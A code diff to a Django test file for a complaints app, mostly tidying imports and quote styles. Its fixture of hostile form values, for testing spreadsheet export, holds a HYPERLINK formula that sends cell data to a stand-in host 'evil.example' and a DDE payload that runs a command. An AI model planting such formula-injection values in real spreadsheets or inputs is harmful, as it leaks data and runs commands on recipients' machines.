@@ -8,7 +8,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 from wagtail.models import ModelLogEntry
 
-from complaints.models import Complaint, ComplaintMessage, MessageKind, MessageStatus, Status
+from complaints.models import Complaint, ComplaintMessage, MessageStatus, Status
 from complaints.submission import create_complaint
 from tests.complaints.conftest import LANGUAGES, VALID_ANSWERS
 
@@ -16,7 +16,7 @@ pytestmark = pytest.mark.django_db
 
 PERSONAL_DATA = ("Leyla", "leyla@example.org", "pension", "Nizami", "+994")
 HOSTILE = {
-    "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "authority": "+1+cmd|' /C calc'!A0",
     "what_happened": "-2+3",
     "when_happened": "@SUM(1,2)",
@@ -120,7 +120,7 @@ def test_status_changes_assignment_and_notes_are_saved_and_logged(officer_client
         ("complaints.status_change", {"old": "in_review", "new": "closed", "outcome": "resolved"}),
     ]
     history = officer_client.get(reverse("complaints:history", args=[complaint.pk]))
-    assert 'Status changed from “In review” to “Closed”' in history.content.decode()
+    assert "Status changed from “In review” to “Closed”" in history.content.decode()
     for entry in ModelLogEntry.objects.all():
         logged = f"{entry.label} {entry.data}"
         assert not any(personal in logged for personal in PERSONAL_DATA + ("Called her",))
